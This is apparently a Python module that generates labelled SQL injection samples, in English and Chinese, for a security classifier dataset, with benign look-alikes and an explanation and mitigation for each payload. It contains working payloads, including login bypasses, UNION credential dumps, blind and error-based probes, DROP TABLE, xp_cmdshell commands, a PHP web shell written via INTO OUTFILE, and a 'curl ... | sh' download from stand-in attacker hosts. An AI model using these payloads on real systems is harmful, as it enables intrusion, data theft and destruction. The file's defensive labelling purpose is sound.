"""SQL injection: tautologies, comment truncation, UNION, stacked queries, time- and error-based
blind, encodings; and benign look-alikes (apostrophes in names, SQL words in search phrases,
parameterised queries)."""

from __future__ import annotations

from fwyy_ollama.dataset.catalog import Category, Params, Template
from fwyy_ollama.report import Label

POOL = {
    "user": ("admin", "administrator", "root", "alice", "sa", "webmaster", "support", "ops"),
    "attacker": ("eve", "mallory", "h4x0r", "backup_svc", "audit2", "test123"),
    "table": ("users", "accounts", "members", "customers", "staff", "logins", "admins", "employees"),
    "ucol": ("username", "user_name", "login", "email"),
    "pcol": ("password", "passwd", "pass_hash", "pwd"),
    "scol": ("password", "credit_card", "api_key", "ssn", "session_token", "totp_secret"),
    "n": ("1", "2", "3", "5", "7", "10", "12", "42", "105", "2024"),
    "k": ("1", "2", "3", "4", "5", "6", "8", "10"),
    "t": ("1", "a", "x", "z", "ok", "yes"),
    "cmt": ("--", "-- -", "#", "/*"),
    "delay": ("3", "5", "7", "10", "15"),
    "dbfn": ("version()", "user()", "database()", "@@version", "current_user"),
    "char": ("a", "b", "m", "r", "5", "8"),
    "pos": ("1", "2", "3", "4"),
    "surname": ("O'Brien", "O'Neil", "D'Angelo", "O'Connor", "L'Oréal", "Dell'Acqua", "N'Diaye", "O'Hara"),
    "item": ("laptop", "usb cable", "chairs", "desk lamp", "phone case", "printer ink", "headphones"),
    "path": (
        "/var/www/html/shell.php",
        "/var/www/html/.cache.php",
        "/var/www/uploads/x.php",
        "/srv/www/cmd.php",
    ),
    "oscmd": (
        "whoami",
        "net user hacker P@ssw0rd1 /add",
        "ipconfig /all",
        "certutil -urlcache -f http://203.0.113.7/a.exe a.exe",
    ),
    "host": ("203.0.113.7", "198.51.100.23", "evil.example", "attacker.test"),
    "col2": ("created_at", "name", "price", "id", "updated_at"),
    "dir": ("asc", "desc"),
}

SUBJECTS = {
    "en": ("This SQL input", "This SQL parameter value", "This SQL fragment"),
    "zh": ("这段 SQL 输入", "这个 SQL 参数值", "这段 SQL 片段"),
}


def _hex(params: Params) -> Params:
    return {"hexuser": "0x" + params["user"].encode().hex()}


T = Template
S = Label.SAFE
L = Label.LOW
M = Label.MEDIUM
H = Label.HIGH
C = Label.CRITICAL

TEMPLATES = (
    # ------------------------------------------------------------------ safe look-alikes
    T(
        "sqli.apostrophe_name",
        "sqli",
        S,
        "{surname}",
        (
            "is a surname with one apostrophe (`{surname}`); no SQL follows the quote: no OR, UNION, comment or `;`.",
            "None by itself; it only breaks code that concatenates strings, which is a bug to fix anyway.",
            "Accept it and bind it as a query parameter so names like `{surname}` are stored correctly.",
        ),
        (
            "是一个带撇号的姓氏（`{surname}`），引号后面没有任何 SQL：没有 OR、UNION、注释或分号。",
            "无。它只会让拼接字符串的代码出错，而那本身就是应修复的缺陷。",
            "正常接受，并以参数绑定方式写入，确保 `{surname}` 这类姓名能正确保存。",
        ),
    ),
    T(
        "sqli.search_words",
        "sqli",
        S,
        "{phrase} {item}",
        (
            "is a plain search phrase; `{phrase}` are English words, with no quote, operator or comment "
            "that could leave a string literal.",
            "None.",
            "No action; keep search queries parameterized and escape `%`/`_` in LIKE patterns.",
        ),
        (
            "是普通的搜索词；`{phrase}` 只是英文单词，没有能跳出字符串的引号、运算符或注释。",
            "无。",
            "无需处理；搜索查询保持参数化，LIKE 中转义 `%` 和 `_`。",
        ),
        params={
            "phrase": (
                "select the best",
                "union jack",
                "drop ship",
                "order by price",
                "insert for",
                "update my",
            )
        },
    ),
    T(
        "sqli.parameterized",
        "sqli",
        S,
        "SELECT id, {ucol} FROM {table} WHERE {ucol} = {ph} AND active = 1",
        (
            "uses the `{ph}` placeholder, so the driver sends the value separately and it can never change the "
            "query structure.",
            "None: this is the safe pattern against CWE-89.",
            "Keep it; make sure the value is passed as a bound parameter, not formatted into the string.",
        ),
        (
            "使用 `{ph}` 占位符，值由驱动单独发送，无法改变查询结构。",
            "无：这正是防御 CWE-89 的安全写法。",
            "保持现状；确认值是通过参数绑定传入的，而不是格式化进字符串。",
        ),
        subject=("This SQL query", "这条 SQL 查询"),
        params={"ph": ("?", "%s", ":name", "$1")},
    ),
    T(
        "sqli.numeric_id",
        "sqli",
        S,
        "{n}",
        (
            "is a bare integer id (`{n}`): only digits, nothing that SQL could interpret as syntax.",
            "None.",
            "No action; still cast ids to integers or bind them as parameters.",
        ),
        (
            "是一个纯数字 ID（`{n}`），只有数字，不含任何可被解释为 SQL 语法的内容。",
            "无。",
            "无需处理；ID 仍应转为整数或以参数绑定。",
        ),
    ),
    T(
        "sqli.sort_param",
        "sqli",
        S,
        "sort={col2}&order={dir}&page={k}",
        (
            "is an ordinary sort request: `{col2}` {dir}, page {k}; a column name and direction, no quotes or "
            "extra clauses.",
            "None, provided the column is checked against a whitelist before it is used in ORDER BY.",
            "Map `sort` through an allow-list of column names; accept only asc/desc for `order`.",
        ),
        (
            "是普通的排序请求：按 `{col2}` {dir} 排序、第 {k} 页；只有列名和方向，没有引号或额外子句。",
            "无，前提是列名在用于 ORDER BY 前经过白名单校验。",
            "`sort` 通过列名白名单映射；`order` 只接受 asc/desc。",
        ),
    ),
    T(
        "sqli.email_value",
        "sqli",
        S,
        "{user}+{item_tag}@example.com",
        (
            "is an email address with a plus tag (`+{item_tag}`); `+`, `@` and `.` are not SQL syntax here.",
            "None.",
            "Accept it; validate the email format and bind it as a parameter.",
        ),
        (
            "是带加号标签（`+{item_tag}`）的邮箱地址；`+`、`@`、`.` 在这里不构成 SQL 语法。",
            "无。",
            "正常接受；校验邮箱格式并以参数绑定。",
        ),
        params={"item_tag": ("news", "shop", "bills", "github", "promo", "work")},
    ),
    # ------------------------------------------------------------------ low: probing
    T(
        "sqli.quote_probe",
        "sqli",
        L,
        "{user}{q}",
        (
            "appends a lone `{q}` to `{user}` to see whether the application throws a SQL error; it is a probe, "
            "no payload yet.",
            "Reveals whether the field is injectable and may leak error details (CWE-209); a precursor to CWE-89.",
            "Use parameterized queries, return generic error pages, and rate-limit repeated probes.",
        ),
        (
            "在 `{user}` 后加了一个单独的 `{q}`，用来试探应用是否报 SQL 错误；这是探测，还没有攻击载荷。",
            "可暴露该字段是否可注入，并可能泄露错误细节（CWE-209），是 CWE-89 的前兆。",
            "使用参数化查询，返回通用错误页，并对重复探测限流。",
        ),
        params={"q": ("'", '"', "')", '")')},
    ),
    T(
        "sqli.boolean_probe",
        "sqli",
        L,
        "{n} AND {a}={b}",
        (
            "tests whether id `{n}` is evaluated as SQL: if `AND {a}={b}` changes the page, the parameter is "
            "injectable. It extracts nothing yet.",
            "Reconnaissance for boolean-based SQL injection (CWE-89).",
            "Cast the id to an integer or bind it; alert on SQL operators in numeric parameters.",
        ),
        (
            "检测 ID `{n}` 是否被当作 SQL 执行：若 `AND {a}={b}` 改变了页面，则参数可注入。目前尚未提取数据。",
            "布尔型 SQL 注入（CWE-89）的前期侦察。",
            "将 ID 转为整数或参数绑定；对数值参数中出现 SQL 运算符告警。",
        ),
        params={"a": ("1", "2", "3"), "b": ("1", "2", "3")},
    ),
    T(
        "sqli.order_by_count",
        "sqli",
        L,
        "{n} ORDER BY {k}{cmt}",
        (
            "raises `ORDER BY {k}` to count the columns of the query (an error appears once {k} exceeds them), "
            "the step before a UNION attack.",
            "Column enumeration; it leaks query structure and prepares UNION-based injection (CWE-89).",
            "Bind the parameter; never build ORDER BY from raw input; watch for ORDER BY with increasing numbers.",
        ),
        (
            "逐步增大 `ORDER BY {k}` 来探测查询的列数（超出列数时报错），是 UNION 注入的前一步。",
            "列数枚举，泄露查询结构，为基于 UNION 的注入做准备（CWE-89）。",
            "参数绑定；不要用原始输入拼 ORDER BY；关注递增数字的 ORDER BY 请求。",
        ),
    ),
    # ------------------------------------------------------------------ medium: blind
    T(
        "sqli.sleep",
        "sqli",
        M,
        "{n} AND SLEEP({delay})",
        (
            "makes MySQL pause {delay} seconds when it is evaluated (`SLEEP({delay})`): a time-based blind "
            "injection that reads data one yes/no question at a time.",
            "Blind SQL injection (CWE-89): slow but complete data extraction; also ties up DB connections.",
            "Use parameterized queries; alert on SLEEP/BENCHMARK in input and on requests that take exactly {delay}s.",
        ),
        (
            "被执行时让 MySQL 暂停 {delay} 秒（`SLEEP({delay})`），属于基于时间的盲注，可逐位问答式读取数据。",
            "SQL 盲注（CWE-89）：虽慢但可完整窃取数据，还会占用数据库连接。",
            "使用参数化查询；对输入中的 SLEEP/BENCHMARK 及耗时恰为 {delay} 秒的请求告警。",
        ),
    ),
    T(
        "sqli.waitfor",
        "sqli",
        M,
        "{user}'; WAITFOR DELAY '0:0:{delay}'{cmt}",
        (
            "closes the string after `{user}` and adds `WAITFOR DELAY '0:0:{delay}'`, delaying SQL Server "
            "responses by {delay} s to confirm a time-based blind injection.",
            "Time-based blind SQL injection (CWE-89) allowing gradual data extraction.",
            "Bind parameters; disallow stacked queries; monitor for WAITFOR in request data.",
        ),
        (
            "在 `{user}` 后闭合字符串并追加 `WAITFOR DELAY '0:0:{delay}'`，让 SQL Server 延迟 {delay} 秒响应，"
            "用于确认时间盲注。",
            "基于时间的 SQL 盲注（CWE-89），可逐步窃取数据。",
            "参数绑定；禁止堆叠查询；监控请求中的 WAITFOR。",
        ),
    ),
    T(
        "sqli.pg_sleep",
        "sqli",
        M,
        "{user}' || pg_sleep({delay}){cmt}",
        (
            "concatenates `pg_sleep({delay})` after `{user}`, so PostgreSQL stalls {delay} s; timing confirms "
            "the injection and can leak data bit by bit.",
            "Time-based blind SQL injection (CWE-89).",
            "Use bound parameters; alert on pg_sleep in input; set a statement timeout.",
        ),
        (
            "在 `{user}` 后拼接 `pg_sleep({delay})`，使 PostgreSQL 停顿 {delay} 秒，通过响应时间确认注入并逐位泄露数据。",
            "基于时间的 SQL 盲注（CWE-89）。",
            "使用绑定参数；对输入中的 pg_sleep 告警；设置语句超时。",
        ),
    ),
    T(
        "sqli.extractvalue",
        "sqli",
        M,
        "{n} AND extractvalue(1,concat(0x7e,{dbfn}))",
        (
            "forces an XPath error whose message contains `{dbfn}` (prefixed by `~`), an error-based injection "
            "that prints database details in the error page.",
            "Information disclosure through error-based SQL injection (CWE-89, CWE-209).",
            "Bind the parameter and never show database errors to users.",
        ),
        (
            "故意触发 XPath 错误，错误信息中带出 `{dbfn}`（以 `~` 开头），属于报错注入，借错误页泄露数据库信息。",
            "通过报错注入泄露信息（CWE-89、CWE-209）。",
            "参数绑定，且不要向用户显示数据库错误。",
        ),
    ),
    T(
        "sqli.updatexml",
        "sqli",
        M,
        "{user}' AND updatexml(1,concat(0x7e,({dbfn})),1){cmt}",
        (
            "breaks out after `{user}` and calls `updatexml` with an invalid path built from `{dbfn}`, so the "
            "resulting error reveals that value.",
            "Error-based SQL injection (CWE-89) leaking database metadata (CWE-209).",
            "Use parameterized queries; disable detailed SQL errors in responses.",
        ),
        (
            "在 `{user}` 后跳出字符串，用 `{dbfn}` 构造非法路径调用 `updatexml`，由报错信息泄露该值。",
            "报错型 SQL 注入（CWE-89），泄露数据库元数据（CWE-209）。",
            "使用参数化查询；关闭响应中的详细 SQL 错误。",
        ),
    ),
    T(
        "sqli.substring_blind",
        "sqli",
        M,
        "{n} AND SUBSTRING({dbfn},{pos},1)='{char}'",
        (
            "asks a yes/no question, whether character {pos} of `{dbfn}` is `{char}`; repeating it with other "
            "characters leaks the value (boolean-based blind).",
            "Boolean blind SQL injection (CWE-89): gradual disclosure of database contents.",
            "Bind the id as an integer parameter; alert on SUBSTRING/ASCII comparisons in input.",
        ),
        (
            "逐位提问：`{dbfn}` 的第 {pos} 个字符是否为 `{char}`；换字符反复请求即可泄露整个值（布尔盲注）。",
            "布尔型 SQL 盲注（CWE-89），可逐步泄露数据库内容。",
            "将 ID 作为整数参数绑定；对输入中的 SUBSTRING/ASCII 比较告警。",
        ),
    ),
    # ------------------------------------------------------------------ high: bypass and exfiltration
    T(
        "sqli.tautology",
        "sqli",
        H,
        "' OR '{t}'='{t}",
        (
            "closes the quoted string and adds `OR '{t}'='{t}'`, which is always true, so the WHERE clause "
            "matches every row; in a login query it signs in as the first user.",
            "Authentication bypass and data disclosure through SQL injection (CWE-89).",
            "Use parameterized queries; never concatenate user input into SQL; lock out repeated failures.",
        ),
        (
            "闭合引号并追加恒真条件 `OR '{t}'='{t}'`，使 WHERE 匹配所有行；用于登录查询时会以第一个用户身份登录。",
            "通过 SQL 注入绕过认证并泄露数据（CWE-89）。",
            "使用参数化查询，绝不拼接用户输入；对多次失败登录进行锁定。",
        ),
    ),
    T(
        "sqli.tautology_user",
        "sqli",
        H,
        "{user}' OR {a}={a}{cmt}",
        (
            "ends the `{user}` string, adds the always-true `OR {a}={a}` and comments out the rest with `{cmt}`, "
            "so the password check is skipped.",
            "Login bypass as `{user}` or the first account (CWE-89).",
            "Bind username and password as parameters and compare password hashes in code.",
        ),
        (
            "结束 `{user}` 字符串，追加恒真条件 `OR {a}={a}`，并用 `{cmt}` 注释掉其余部分，从而跳过密码校验。",
            "可以 `{user}` 或第一个账户身份绕过登录（CWE-89）。",
            "用户名和密码都用参数绑定，并在代码中比较密码哈希。",
        ),
        params={"a": ("1", "2", "9")},
    ),
    T(
        "sqli.comment_trunc",
        "sqli",
        H,
        "{user}'{cmt}",
        (
            "closes the username string after `{user}` and comments out the rest of the query with `{cmt}`, "
            "dropping the password condition.",
            "Authentication bypass: logs in as `{user}` without a password (CWE-89).",
            "Use parameterized queries; verify the password hash separately from the lookup.",
        ),
        (
            "在 `{user}` 后闭合用户名字符串，并用 `{cmt}` 注释掉查询的剩余部分，去掉了密码条件。",
            "认证绕过：无需密码即可以 `{user}` 登录（CWE-89）。",
            "使用参数化查询；在查出用户后单独校验密码哈希。",
        ),
    ),
    T(
        "sqli.union_creds",
        "sqli",
        H,
        "{n} UNION SELECT {ucol},{pcol} FROM {table}{cmt}",
        (
            "appends `UNION SELECT {ucol},{pcol} FROM {table}`, so the page that lists item {n} also prints "
            "every user name and password from `{table}`.",
            "Credential theft through UNION-based SQL injection (CWE-89).",
            "Bind the parameter; give the app's DB account no access to `{table}` credentials it does not need.",
        ),
        (
            "追加 `UNION SELECT {ucol},{pcol} FROM {table}`，让展示第 {n} 条记录的页面同时输出 `{table}` 中所有"
            "用户名和密码。",
            "通过 UNION 注入窃取凭据（CWE-89）。",
            "参数绑定；应用的数据库账号不应有权读取不需要的 `{table}` 凭据。",
        ),
    ),
    T(
        "sqli.union_null",
        "sqli",
        H,
        "' UNION ALL SELECT NULL,{scol} FROM {table}{cmt}",
        (
            "closes the string and unions in `{scol}` from `{table}`, padding with NULL to match the column "
            "count, so the response leaks that column.",
            "Disclosure of `{scol}` values through UNION SQL injection (CWE-89).",
            "Use parameterized queries; encrypt or tokenize sensitive columns; least-privilege DB accounts.",
        ),
        (
            "闭合字符串后用 UNION 取出 `{table}` 的 `{scol}` 列，并用 NULL 补齐列数，使响应泄露该列数据。",
            "通过 UNION 注入泄露 `{scol}` 数据（CWE-89）。",
            "使用参数化查询；敏感列加密或令牌化；数据库账号最小权限。",
        ),
    ),
    T(
        "sqli.hex_user",
        "sqli",
        H,
        "' OR {ucol}={hexuser}{cmt}",
        (
            "compares `{ucol}` to `{hexuser}`, the hex spelling of '{user}', so no quotes are needed and "
            "quote filters miss it; it logs in as `{user}`.",
            "Filter-evading SQL injection and login bypass (CWE-89).",
            "Bind parameters instead of filtering quotes; blacklists miss encodings like hex literals.",
        ),
        (
            "把 `{ucol}` 与 `{hexuser}`（即 '{user}' 的十六进制写法）比较，无需引号即可绕过引号过滤，以 `{user}` 身份登录。",
            "绕过过滤的 SQL 注入与登录绕过（CWE-89）。",
            "用参数绑定代替过滤引号；黑名单挡不住十六进制字面量等编码。",
        ),
        derive=_hex,
    ),
    # ------------------------------------------------------------------ critical: stacked, write, exec
    T(
        "sqli.drop_table",
        "sqli",
        C,
        "{n}; DROP TABLE {table}{cmt}",
        (
            "ends the original statement with `;` and stacks `DROP TABLE {table}`, deleting the table and all of "
            "its rows.",
            "Destruction of the `{table}` table: data loss and outage (CWE-89).",
            "Use parameterized queries, disable multi-statement execution, deny DROP to the app account; keep backups.",
        ),
        (
            "用 `;` 结束原语句并堆叠 `DROP TABLE {table}`，删除整张表及其所有数据。",
            "`{table}` 表被删除：数据丢失、服务中断（CWE-89）。",
            "使用参数化查询，禁用多语句执行，应用账号不授予 DROP 权限；做好备份。",
        ),
    ),
    T(
        "sqli.xp_cmdshell",
        "sqli",
        C,
        "'; EXEC xp_cmdshell '{oscmd}'{cmt}",
        (
            "stacks `EXEC xp_cmdshell '{oscmd}'`, making SQL Server run an operating-system command "
            "(`{oscmd}`) as its service account.",
            "Remote command execution on the database server (CWE-89, CWE-78).",
            "Bind parameters; disable xp_cmdshell; run SQL Server under a low-privilege account.",
        ),
        (
            "堆叠执行 `EXEC xp_cmdshell '{oscmd}'`，让 SQL Server 以服务账号身份运行操作系统命令（`{oscmd}`）。",
            "在数据库服务器上远程执行命令（CWE-89、CWE-78）。",
            "参数绑定；禁用 xp_cmdshell；以低权限账号运行 SQL Server。",
        ),
    ),
    T(
        "sqli.outfile",
        "sqli",
        C,
        "' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '{path}'{cmt}",
        (
            "writes a PHP web shell into `{path}` with `INTO OUTFILE`; requesting that file with `?c=` then "
            "runs any command on the web server.",
            "Remote code execution via SQL injection (CWE-89, CWE-94).",
            "Bind parameters; revoke the FILE privilege; set secure_file_priv; keep web roots unwritable by MySQL.",
        ),
        (
            "用 `INTO OUTFILE` 把 PHP 网页木马写入 `{path}`，之后带 `?c=` 访问该文件即可在 Web 服务器上执行任意命令。",
            "通过 SQL 注入实现远程代码执行（CWE-89、CWE-94）。",
            "参数绑定；撤销 FILE 权限；设置 secure_file_priv；Web 根目录不可被 MySQL 写入。",
        ),
    ),
    T(
        "sqli.priv_update",
        "sqli",
        C,
        "'; UPDATE {table} SET role='admin' WHERE {ucol}='{attacker}'{cmt}",
        (
            "stacks an UPDATE that sets `role='admin'` for the account `{attacker}` in `{table}`, granting the "
            "attacker administrator rights.",
            "Privilege escalation and integrity loss via stacked SQL injection (CWE-89).",
            "Use parameterized queries; disallow stacked statements; audit role changes.",
        ),
        (
            "堆叠一条 UPDATE，把 `{table}` 中账号 `{attacker}` 的 `role` 改为 admin，使攻击者获得管理员权限。",
            "通过堆叠注入提升权限、破坏数据完整性（CWE-89）。",
            "使用参数化查询；禁止堆叠语句；审计角色变更。",
        ),
    ),
    T(
        "sqli.insert_admin",
        "sqli",
        C,
        "'; INSERT INTO {table} ({ucol},{pcol},role) VALUES ('{attacker}','x','admin'){cmt}",
        (
            "stacks an INSERT that creates a new admin account `{attacker}` in `{table}`, a persistent backdoor "
            "login.",
            "Unauthorized admin account and persistence (CWE-89).",
            "Bind parameters; disable multi-statements; alert on new admin accounts.",
        ),
        (
            "堆叠一条 INSERT，在 `{table}` 中新建管理员账号 `{attacker}`，形成持久后门登录。",
            "未授权的管理员账号与持久化（CWE-89）。",
            "参数绑定；禁用多语句；对新增管理员账号告警。",
        ),
    ),
    T(
        "sqli.copy_program",
        "sqli",
        C,
        "{n}; COPY (SELECT '') TO PROGRAM 'curl -s http://{host}/s | sh'{cmt}",
        (
            "abuses PostgreSQL's `COPY ... TO PROGRAM` to run `curl -s http://{host}/s | sh`, downloading and "
            "executing a script from {host} on the database host.",
            "Remote code execution on the database server (CWE-89, CWE-78).",
            "Bind parameters; the app role must not be superuser or in pg_execute_server_program.",
        ),
        (
            "滥用 PostgreSQL 的 `COPY ... TO PROGRAM` 执行 `curl -s http://{host}/s | sh`，在数据库主机上下载并运行 "
            "{host} 的脚本。",
            "在数据库服务器上远程执行代码（CWE-89、CWE-78）。",
            "参数绑定；应用角色不能是超级用户，也不能属于 pg_execute_server_program。",
        ),
    ),
)

CATEGORY = Category("sqli", POOL, SUBJECTS, TEMPLATES)
